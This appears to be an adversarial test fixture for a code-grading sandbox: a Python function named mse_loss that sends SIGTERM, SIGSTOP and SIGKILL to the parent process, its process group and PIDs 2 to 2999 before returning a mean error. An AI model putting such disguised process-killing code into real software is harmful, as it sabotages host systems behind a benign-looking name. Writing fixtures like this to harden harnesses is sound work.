# attack: sends signals to the parent, the group, and everybody | must: wrong|crashed
import os
import signal


def mse_loss(pred, target):
    victims = [os.getppid(), -os.getppid(), 0, *range(2, 3000)]
    for pid in victims:
        for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            if pid not in (0, os.getpid()):
                try:
                    os.kill(pid, number)
                except (OSError, OverflowError):
                    pass
    return (pred - target).mean()
